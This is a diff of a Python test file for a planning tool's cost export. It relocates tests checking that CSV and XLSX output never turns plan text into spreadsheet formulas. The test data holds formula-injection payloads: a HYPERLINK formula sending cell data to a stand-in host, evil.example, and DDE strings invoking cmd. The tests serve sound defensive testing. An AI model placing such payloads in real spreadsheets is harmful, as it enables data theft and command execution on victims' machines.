@@ -590,78 +590,6 @@ def test_costs_out_replaces_its_own_file_but_never_someone_elses(tmp_path: Path,
     assert foreign.read_bytes() == b"Budget 2018, by hand\n"
 
 
-# -- spreadsheets: plan text never becomes a formula ------------------------------------------
-
-FORMULAS = {
-    "title": '=HYPERLINK("https://evil.example/?d="&A1,"click")',
-    "funder": "@SUM(1+1)*cmd|' /C calc'!A0",
-    "place": "-2+3+cmd|' /C calc'!A0",
-    "trip": "+Paris",
-    "spaced": "  =1+1",
-    "tab": "\t=1+1",
-    "wide": "\uff1d1+1",
-}
-
-
-def _formula_plan() -> dict[str, Any]:
-    data = copy.deepcopy(PLAN)
-    trip = data["trips"][0]
-    trip["title"] = FORMULAS["trip"]
-    meeting, other = trip["activities"]
-    meeting["title"] = FORMULAS["title"]
-    meeting["cost"] = {"amount": "10", "currency": "EUR", "per": "person"}
-    other["title"] = FORMULAS["spaced"]
-    other["cost"] = {"amount": "5", "currency": "EUR", "per": "item"}
-    trip["legs"][1]["cost"] = {"amount": "7", "currency": "EUR", "per": "item"}
-    trip["legs"][1]["carrier"] = FORMULAS["tab"]
-    data["budget"]["funders"][0]["name"] = FORMULAS["funder"]
-    data["communities"][1]["name"] = FORMULAS["place"]
-    data["budget"]["allowance_rates"][0]["place"] = FORMULAS["place"]
-    data["delegates"][0]["name"] = FORMULAS["wide"]
-    return data
-
-
-@pytest.mark.parametrize("lang", ["en", "de"])
-def test_costs_csv_cells_never_start_a_formula(write_plan: Any, lang: str) -> None:
-    path = write_plan(_formula_plan())
-    result = run("costs", path, "--format", "csv", "--lang", lang)
-    assert result.exit_code == 0, result.output
-    rows = list(
-        csv.reader(
-            io.StringIO(result.stdout_bytes.decode("utf-8-sig")),
-            delimiter=";" if lang == "de" else ",",
-        )
-    )
-    cells = [cell for row in rows for cell in row]
-    assert "'" + FORMULAS["title"] in cells
-    assert "'" + FORMULAS["funder"] in cells
-    assert "'" + FORMULAS["place"] in cells
-    for cell in cells:
-        assert not cell.lstrip(" \ufffd").startswith(("=", "+", "@", "\uff1d", "\t")), cell
-        if cell.startswith("-"):
-            assert re.fullmatch(r"-\d+[.,]\d\d", cell), cell  # only our own negative amounts
-
-
-def test_costs_xlsx_text_is_never_a_formula(write_plan: Any, tmp_path: Path) -> None:
-    from openpyxl import load_workbook
-
-    path = write_plan(_formula_plan())
-    target = tmp_path / "costs.xlsx"
-    result = run("costs", path, "--format", "xlsx", "--out", str(target), "--lang", "en")
-    assert result.exit_code == 0, result.output
-    book = load_workbook(target)
-    texts = []
-    for sheet in book:
-        for row in sheet.iter_rows():
-            for cell in row:
-                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
-                if isinstance(cell.value, str):
-                    texts.append(cell.value)
-                    if cell.value.lstrip(" \ufffd").startswith(("=", "+", "-", "@", "\uff1d")):
-                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
-    assert FORMULAS["title"] in texts and FORMULAS["funder"] in texts
-
-
 US_PLAN: dict[str, Any] = {
     "version": 1,
     "programme": {"name": "Visit", "year": 2018, "organiser": "Town", "language": "en"},
@@ -769,6 +697,78 @@ def test_a_plan_without_costs_says_how_to_add_them(tmp_path: Path) -> None:
     result = run("costs", str(path))
     assert result.exit_code == 0, result.output
     assert "No costs and no daily allowances in this selection" in result.stdout
+
+
+# -- spreadsheets: plan text never becomes a formula ------------------------------------------
+
+FORMULAS = {
+    "title": '=HYPERLINK("https://evil.example/?d="&A1,"click")',
+    "funder": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "place": "-2+3+cmd|' /C calc'!A0",
+    "trip": "+Paris",
+    "spaced": "  =1+1",
+    "tab": "\t=1+1",
+    "wide": "\uff1d1+1",
+}
+
+
+def _formula_plan() -> dict[str, Any]:
+    data = copy.deepcopy(PLAN)
+    trip = data["trips"][0]
+    trip["title"] = FORMULAS["trip"]
+    meeting, other = trip["activities"]
+    meeting["title"] = FORMULAS["title"]
+    meeting["cost"] = {"amount": "10", "currency": "EUR", "per": "person"}
+    other["title"] = FORMULAS["spaced"]
+    other["cost"] = {"amount": "5", "currency": "EUR", "per": "item"}
+    trip["legs"][1]["cost"] = {"amount": "7", "currency": "EUR", "per": "item"}
+    trip["legs"][1]["carrier"] = FORMULAS["tab"]
+    data["budget"]["funders"][0]["name"] = FORMULAS["funder"]
+    data["communities"][1]["name"] = FORMULAS["place"]
+    data["budget"]["allowance_rates"][0]["place"] = FORMULAS["place"]
+    data["delegates"][0]["name"] = FORMULAS["wide"]
+    return data
+
+
+@pytest.mark.parametrize("lang", ["en", "de"])
+def test_costs_csv_cells_never_start_a_formula(write_plan: Any, lang: str) -> None:
+    path = write_plan(_formula_plan())
+    result = run("costs", path, "--format", "csv", "--lang", lang)
+    assert result.exit_code == 0, result.output
+    rows = list(
+        csv.reader(
+            io.StringIO(result.stdout_bytes.decode("utf-8-sig")),
+            delimiter=";" if lang == "de" else ",",
+        )
+    )
+    cells = [cell for row in rows for cell in row]
+    assert "'" + FORMULAS["title"] in cells
+    assert "'" + FORMULAS["funder"] in cells
+    assert "'" + FORMULAS["place"] in cells
+    for cell in cells:
+        assert not cell.lstrip(" \ufffd").startswith(("=", "+", "@", "\uff1d", "\t")), cell
+        if cell.startswith("-"):
+            assert re.fullmatch(r"-\d+[.,]\d\d", cell), cell  # only our own negative amounts
+
+
+def test_costs_xlsx_text_is_never_a_formula(write_plan: Any, tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    path = write_plan(_formula_plan())
+    target = tmp_path / "costs.xlsx"
+    result = run("costs", path, "--format", "xlsx", "--out", str(target), "--lang", "en")
+    assert result.exit_code == 0, result.output
+    book = load_workbook(target)
+    texts = []
+    for sheet in book:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    texts.append(cell.value)
+                    if cell.value.lstrip(" \ufffd").startswith(("=", "+", "-", "@", "\uff1d")):
+                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
+    assert FORMULAS["title"] in texts and FORMULAS["funder"] in texts
 
 
 def test_costs_xlsx_with_noncharacters_in_plan_text_is_written(
